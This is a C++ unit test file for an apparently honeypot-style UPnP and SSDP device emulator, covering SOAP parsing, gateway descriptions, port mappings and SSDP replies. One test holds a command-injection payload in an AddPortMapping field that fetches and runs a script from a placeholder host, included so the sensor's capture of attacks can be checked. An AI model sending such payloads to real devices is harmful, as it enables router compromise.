#include <gtest/gtest.h>

#include "sensor/persona/test_persona.h"
#include "sensor/protocols/upnp/soap_envelope.h"
#include "sensor/protocols/upnp/ssdp.h"
#include "sensor/protocols/upnp/upnp_device.h"

namespace mitsu::sensor::upnp {
namespace {

DevicePersona gateway() {
  DevicePersona p = test_gateway();
  p.upnp_services = {"urn:schemas-upnp-org:service:Layer3Forwarding:1",
                     "urn:schemas-upnp-org:service:WANCommonInterfaceConfig:1",
                     "urn:schemas-upnp-org:service:WANIPConnection:1"};
  return p;
}

std::string envelope(std::string_view action, std::string_view arguments) {
  return "<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/"
         "envelope/\"><s:Body><u:" +
         std::string(action) + " xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\">" +
         std::string(arguments) + "</u:" + std::string(action) + "></s:Body></s:Envelope>";
}

TEST(Soap, ActionArgumentsAndInjectedCommandsAsSent) {
  auto call =
      parse_soap("\"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\"",
                 envelope("AddPortMapping",
                          "<NewRemoteHost></NewRemoteHost><NewExternalPort>8080</NewExternalPort>"
                          "<NewProtocol>TCP</NewProtocol><NewInternalClient>`cd /tmp; wget "
                          "http://192.0.2.5/x &amp;&amp; sh x`</NewInternalClient><NewEnabled/>"));
  ASSERT_TRUE(call);
  EXPECT_EQ(call->action, "AddPortMapping");
  EXPECT_EQ(call->service_type, "urn:schemas-upnp-org:service:WANIPConnection:1");
  EXPECT_EQ(call->argument("NewExternalPort"), "8080");
  EXPECT_EQ(call->argument("NewInternalClient"), "`cd /tmp; wget http://192.0.2.5/x && sh x`");
  EXPECT_EQ(call->arguments.size(), 5u);
  // The header alone names the action when the body is not XML.
  auto bare = parse_soap("urn:x:service:Y:1#GetExternalIPAddress", "garbage");
  ASSERT_TRUE(bare);
  EXPECT_EQ(bare->action, "GetExternalIPAddress");
  EXPECT_FALSE(parse_soap("", "<a><b>"));
  EXPECT_FALSE(parse_soap("", "<Body><unclosed"));
}

TEST(UpnpDevice, GatewayDescriptionNestsWanServices) {
  std::string xml = description_xml(gateway());
  auto at = [&](std::string_view s) { return xml.find(s); };
  ASSERT_NE(at("WANConnectionDevice:1"), std::string::npos);
  EXPECT_LT(at("WANDevice:1"), at("WANConnectionDevice:1"));
  EXPECT_LT(at("WANConnectionDevice:1"), at("<controlURL>/ctl/WANIPConnection</controlURL>"));
  EXPECT_NE(at("<UDN>uuid:00a1b2c3-d4e5"), std::string::npos) << xml;
  auto scpd = scpd_xml(gateway(), "/WANIPConnection.xml");
  ASSERT_TRUE(scpd);
  EXPECT_NE(scpd->find("<name>AddPortMapping</name>"), std::string::npos);
  EXPECT_FALSE(scpd_xml(gateway(), "/nothing.xml"));
}

TEST(UpnpDevice, PortMappingsAddListConflictDelete) {
  DevicePersona p = gateway();
  PortMappingTable table;
  auto call = [&](std::string_view action, std::string_view args) {
    return control(
        p, table,
        *parse_soap("urn:schemas-upnp-org:service:WANIPConnection:1#x", envelope(action, args)),
        "198.51.100.7");
  };
  std::string add =
      "<NewRemoteHost></NewRemoteHost><NewExternalPort>4444</NewExternalPort><NewProtocol>tcp"
      "</NewProtocol><NewInternalPort>22</NewInternalPort><NewInternalClient>192.168.1.20"
      "</NewInternalClient><NewEnabled>1</NewEnabled><NewPortMappingDescription>x"
      "</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration>";
  EXPECT_TRUE(call("AddPortMapping", add).ok());
  auto entry = call("GetGenericPortMappingEntry", "<NewPortMappingIndex>0</NewPortMappingIndex>");
  ASSERT_TRUE(entry.ok());
  EXPECT_NE(entry.body.find("<NewInternalClient>192.168.1.20</NewInternalClient>"),
            std::string::npos);
  auto none = call("GetGenericPortMappingEntry", "<NewPortMappingIndex>1</NewPortMappingIndex>");
  EXPECT_EQ(none.status, 500);
  EXPECT_NE(none.body.find("<errorCode>713</errorCode>"), std::string::npos);
  std::string other = add;
  other.replace(other.find("192.168.1.20"), 12, "192.168.1.21");
  EXPECT_NE(call("AddPortMapping", other).body.find("<errorCode>718</errorCode>"),
            std::string::npos);
  EXPECT_NE(call("GetExternalIPAddress", "").body.find("198.51.100.7"), std::string::npos);
  p.upnp_external_ip = "203.0.113.10";
  EXPECT_NE(call("GetExternalIPAddress", "").body.find("203.0.113.10"), std::string::npos);
  std::string key =
      "<NewRemoteHost/><NewExternalPort>4444</NewExternalPort><NewProtocol>TCP"
      "</NewProtocol>";
  EXPECT_TRUE(call("DeletePortMapping", key).ok());
  EXPECT_EQ(call("DeletePortMapping", key).status, 500);
  EXPECT_EQ(call("Reboot", "").status, 500);
}

TEST(Ssdp, SearchTargetsAndCompactReplies) {
  DevicePersona p = gateway();
  auto request = parse_ssdp(std::as_bytes(std::span(
      std::string_view("M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nST: ssdp:all\r\nMAN: "
                       "\"ssdp:discover\"\r\nMX: 2"))));
  ASSERT_TRUE(request);
  EXPECT_EQ(request->method, "M-SEARCH");
  EXPECT_EQ(request->header("st"), "ssdp:all");
  auto all = search_responses(p, "ssdp:all", "http://127.0.0.1:1/rootDesc.xml", false);
  EXPECT_EQ(all.size(), 6u);  // root, uuid, device type, three services
  auto one = search_responses(p, "urn:schemas-upnp-org:service:WANIPConnection:1", "L", true);
  ASSERT_EQ(one.size(), 1u);
  EXPECT_EQ(one[0].find("SERVER:"), std::string::npos);
  EXPECT_NE(all[0].find("SERVER: "), std::string::npos);
  EXPECT_TRUE(search_responses(p, "urn:other", "L", false).empty());
  EXPECT_FALSE(parse_ssdp(std::as_bytes(std::span(std::string_view("\x01\x02")))));
}

TEST(Ssdp, ResponderAnswersSearchesAndRecordsEveryDatagram) {
  DevicePersona p = gateway();
  SsdpResponder responder(p, 8084);
  std::string_view search =
      "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nST: upnp:rootdevice\r\nMAN: "
      "\"ssdp:discover\"\r\nMX: 2\r\n\r\n";
  auto bytes = std::as_bytes(std::span(search));
  auto replies = responder.answer(
      bytes, [] { return std::string("::1"); }, false);
  ASSERT_EQ(replies.size(), 1u);
  EXPECT_NE(replies[0].find("LOCATION: http://[::1]:8084/rootDesc.xml\r\n"), std::string::npos);
  int asked = 0;
  auto notify = std::as_bytes(std::span(std::string_view("NOTIFY * HTTP/1.1\r\nNT: x\r\n")));
  EXPECT_TRUE(responder
                  .answer(
                      notify, [&] { return ++asked, std::string("127.0.0.1"); }, false)
                  .empty());
  EXPECT_EQ(asked, 0) << "the local address is asked for only when answering";

  SessionEvent e = responder.record(bytes, {1, replies[0].size(), 3});
  EXPECT_EQ(e.action, "ssdp.request");
  EXPECT_EQ(e.fields["http.request.method"], "M-SEARCH");
  EXPECT_EQ(e.fields["mitsu.ssdp.st"], "upnp:rootdevice");
  EXPECT_EQ(e.fields["mitsu.ssdp.replies"], 1);
  EXPECT_EQ(e.fields["mitsu.ssdp.suppressed"], 3);
  SessionEvent junk = responder.record(std::as_bytes(std::span(std::string_view("\x01\x02"))), {});
  EXPECT_EQ(junk.fields["http.request.method"], "(invalid)");
  EXPECT_FALSE(junk.fields.contains("mitsu.ssdp.suppressed"));
}

}  // namespace
}  // namespace mitsu::sensor::upnp
